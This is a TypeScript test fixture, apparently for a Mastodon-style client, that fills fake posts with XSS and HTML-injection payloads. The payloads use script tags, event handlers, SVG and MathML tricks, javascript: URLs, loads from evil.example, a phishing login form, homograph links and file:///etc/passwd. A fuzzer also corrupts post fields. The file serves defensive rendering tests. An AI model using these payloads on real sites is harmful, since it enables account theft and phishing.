/** Posts of an attacker's server, and posts that are broken in every way. */

const CALL = 'window.__pwned=1';
const PICTURE = 'https://media.example/picture.png';

/** Each tries to run `CALL`, to cover the page, to navigate away, or to spoof other content. */
export const attacks: readonly string[] = [
  `<script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script src="https://evil.example/a.js"></script>`,
  `<script type="module">import "https://evil.example/a.js"</script>`,
  `<img src=x onerror="${CALL}">`,
  `<img/src=x/onerror=${CALL}>`,
  `<IMG SRC=x OnErRoR=${CALL}>`,
  `<img src="x\` onerror=${CALL}\`>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${CALL}>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y="20">press</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<math href="javascript:${CALL}">press</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<base href="https://evil.example/"><a href="/login">log in</a>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel="stylesheet" href="https://evil.example/a.css">`,
  `<link rel="import" href="https://evil.example/a.html">`,
  `<style>*{display:none!important}</style>`,
  `<style>@import 'https://evil.example/a.css';</style>`,
  `<p style="position:fixed;inset:0;background:red;z-index:9999">over the page</p>`,
  `<p style="background:url(https://evil.example/a.png)">behind the text</p>`,
  `<form action="https://evil.example/"><input name=password type=password autofocus onfocus=${CALL}><button>Log in</button></form>`,
  `<button formaction="javascript:${CALL}" onclick=${CALL}>Log in</button>`,
  `<select onchange=${CALL} autofocus><option>1</select>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<details open ontoggle=${CALL}>more</details>`,
  `<body onload=${CALL}>`,
  `<video autoplay onplay=${CALL}><source onerror="${CALL}" src=x></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<marquee onstart=${CALL}>by</marquee>`,
  `<video><track default src="https://evil.example/a.vtt"></video>`,
  `<audio controls><track kind=captions default src=//evil.example/a.vtt></audio>`,
  `<p title="a><img style=x onerror=${CALL} src=x>`,
  `<p title='a"><img style="x" onerror="${CALL}" src=x>'>quoted</p>`,
  `<p title=a"b style=color:red onclick=${CALL}>unbalanced</p>`,
  `<p style>empty</p><p onclick>empty</p>`,
  `<a href="https://evil.example/'onclick=${CALL}"style="position:fixed">quoted</a>`,
  `<a href="https://one.example/">one<object><a href="javascript:${CALL}">two</a></object></a>`,
  `<a href="javascript:${CALL}">press</a>`,
  `<a href=" &#14; javascript:${CALL}">press</a>`,
  `<a href="java&Tab;script&colon;${CALL}">press</a>`,
  `<a href="JaVaScRiPt:${CALL}">press</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">press</a>`,
  `<a href="vbscript:msgbox(1)">press</a>`,
  `<a href="https://evil.example/" ping="https://evil.example/ping" onclick="${CALL}" target="_top">press</a>`,
  `<a href="https://evil.example/">https://bank.example/login</a>`,
  `<a href="https://bank.example@evil.example/">bank.example</a>`,
  `<a href="https://xn--bnk-ela.example/">bänk.example</a> <a href="https://аpple.example/">аpple.example</a>`,
  `<a class="mention" href="https://evil.example/@mara">@<span>mara@tram.example</span></a>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<xmp><img src=x onerror=${CALL}></xmp><plaintext>`,
  `<![CDATA[><img src=x onerror=${CALL}>]]><!--><img src=x onerror=${CALL}>-->`,
  `${'<b>'.repeat(3000)}deep${'</b>'.repeat(3000)}`,
  `${'<blockquote><ul><li>'.repeat(400)}deep`,
  `\u202Ereversed \u2066isolated \u200Bempty \uFEFFmark ${'\u0301'.repeat(400)}`,
  `${'wide'.repeat(4000)}`,
  `<pre>${'wide '.repeat(2000)}</pre>`,
  `{{constructor.constructor('${CALL}')()}} \${${CALL}} <%= ${CALL} %> __proto__`,
];

/** Markup in text fields must show as text; address fields must accept safe addresses only. */
function attackUrl(attack: string, at: number): string {
  const urls = [
    `javascript:${CALL}`,
    `JAVASCRIPT://example.org/%0a${CALL}`,
    `data:text/html,<script>${CALL}</script>`,
    `vbscript:msgbox(1)`,
    `https://evil.example/"onerror="${CALL}`,
    `//evil.example/`,
    `http://[::1]:4/a.png`,
    `http://sub.localhost:4/a.png`,
    `blob:https://evil.example/1`,
    `file:///etc/passwd`,
    attack,
  ];
  return urls[at % urls.length] ?? attack;
}

/** A post with the attack in every text field and a bad address in every address field. Ids sort by `at`. */
export function hostilePost(attack: string, at: number, prefix = '7'): Record<string, unknown> {
  const id = `${prefix}${String(100_000 - at)}`;
  const bad = attackUrl(attack, at);
  const emojis = [
    { shortcode: 'boat', url: bad, static_url: bad, visible_in_picker: true },
    { shortcode: attack.slice(0, 100), url: PICTURE, static_url: PICTURE, visible_in_picker: true },
    { shortcode: '__proto__', url: PICTURE, static_url: PICTURE, visible_in_picker: true },
  ];
  return {
    id,
    uri: bad,
    url: bad,
    created_at: new Date(Date.UTC(2026, 10, 20, 8, 0, 0) - at * 60_000).toISOString(),
    content: `<p>post ${at} :boat:</p>${attack}`,
    // A content warning collapses the text, so most posts have none.
    spoiler_text: at % 4 === 3 ? attack : '',
    sensitive: at % 8 === 3,
    visibility: 'public',
    language: attack.slice(0, 40),
    application: { name: attack, website: bad },
    account: {
      id: `${id}1`,
      username: attack,
      acct: at % 2 === 0 ? attack : `mallory${at}@evil.example`,
      display_name: `${attack} :boat:`,
      note: attack,
      url: bad,
      uri: bad,
      avatar: bad,
      avatar_static: bad,
      header: bad,
      header_static: bad,
      emojis,
      fields: [{ name: attack, value: attack, verified_at: attack }],
    },
    emojis,
    mentions: [{ id: '1', username: attack, acct: attack, url: bad }],
    tags: [{ name: attack, url: bad }],
    media_attachments: [
      { id: `${id}2`, type: 'image', url: bad, preview_url: bad, remote_url: bad, description: attack, blurhash: attack },
      {
        id: `${id}3`,
        type: ['video', 'audio', 'gifv', 'unknown', attack][at % 5],
        url: bad,
        preview_url: bad,
        description: attack,
      },
    ],
    card:
      at % 3 === 0
        ? {
            url: at % 2 === 0 ? 'https://news.example/' : bad,
            title: attack,
            description: attack,
            type: ['video', 'rich', 'link', 'photo'][at % 4],
            html: attack,
            embed_url: bad,
            author_name: attack,
            author_url: bad,
            provider_name: attack,
            provider_url: bad,
            image: bad,
            width: 1e9,
            height: -1,
          }
        : null,
    poll:
      at % 3 === 1
        ? {
            id: `${id}4`,
            expires_at: attack,
            multiple: true,
            votes_count: 3,
            options: [
              { title: attack, votes_count: 1e300 },
              { title: `:boat: ${attack}`, votes_count: -1 },
            ],
            emojis,
          }
        : null,
    emoji_reactions: [{ name: attack, count: 3, me: false, url: bad, static_url: bad }],
    reblog: null,
  };
}

/** An intact post. Each has an author of its own, which no broken post can change. */
export function plainPost(id: string): Record<string, unknown> {
  const base = hostilePost('', 6);
  const account = {
    id: `a${id}`,
    username: `reader${id}`,
    acct: `reader${id}`,
    display_name: 'Reader',
    url: `https://tram.example/@reader${id}`,
    emojis: [],
    fields: [{ name: 'Site', value: 'mara.example', verified_at: null }],
  };
  return {
    ...base,
    id,
    uri: `https://tram.example/posts/${id}`,
    url: `https://tram.example/posts/${id}`,
    content: '<p>The ferry takes bicycles again. <a href="https://tram.example/ferry">tram.example/ferry</a> :boat:</p>',
    language: 'en',
    account,
    application: null,
    emojis: [{ shortcode: 'boat', url: PICTURE, static_url: PICTURE, visible_in_picker: true }],
    mentions: [{ id: '1', username: 'mara', acct: 'mara', url: 'https://tram.example/@mara' }],
    tags: [{ name: 'ferry', url: 'https://tram.example/tags/ferry' }],
    media_attachments: [
      {
        id: `m${id}`,
        type: 'image',
        url: PICTURE,
        preview_url: PICTURE,
        description: 'The pier',
        meta: { original: { width: 4, height: 3 } },
      },
    ],
    card: { url: 'https://news.example/', title: 'The ferry', description: '', type: 'link', image: PICTURE, html: '' },
    poll: {
      id: `p${id}`,
      expires_at: '2026-11-21T08:00:00.000Z',
      expired: true,
      votes_count: 3,
      options: [
        { title: 'Yes', votes_count: 2 },
        { title: 'No', votes_count: 1 },
      ],
      own_votes: [],
      emojis: [],
    },
    emoji_reactions: [{ name: '⛴️', count: 2, me: false }],
  };
}

/** A seeded generator of numbers in [0, 1). */
export function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

const MISSING = Symbol('missing');

function wrongValues(): unknown[] {
  let nest: unknown = 'end';
  for (let depth = 0; depth < 500; depth++) nest = depth % 2 === 0 ? [nest] : { reblog: nest };
  return [
    MISSING,
    null,
    0,
    -1,
    1e308,
    true,
    '',
    ' ',
    '\u0000',
    '\uD800',
    'x'.repeat(100_000),
    '\u202E',
    '9999-99-99T99:99:99Z',
    [],
    {},
    [null],
    [[]],
    [{}],
    [0, '', null, {}],
    { id: {} },
    { length: 9 },
    { toString: 1, valueOf: null },
    { __proto__: null },
    nest,
    Array.from({ length: 3000 }, () => ({ id: '1' })),
  ];
}

/** A copy of `post` with one to four values, at any depth, replaced by unexpected ones. */
export function broken(post: Record<string, unknown>, random: () => number): unknown {
  const copy: unknown = structuredClone(post);
  const pick = <T>(list: readonly T[]): T | undefined => list[Math.floor(random() * list.length)];
  for (let left = 1 + Math.floor(random() * 4); left > 0; left--) {
    let place = copy;
    for (;;) {
      if (typeof place !== 'object' || place === null) break;
      const holder = place as Record<string, unknown>;
      const key = pick(Object.keys(holder));
      if (key === undefined) break;
      const inner = holder[key];
      if (typeof inner === 'object' && inner !== null && random() < 0.6) {
        place = inner;
        continue;
      }
      const value = pick(wrongValues());
      if (value === MISSING) delete holder[key];
      else holder[key] = value;
      break;
    }
  }
  return random() < 0.05 ? pick([null, 0, '', [], {}]) : copy;
}
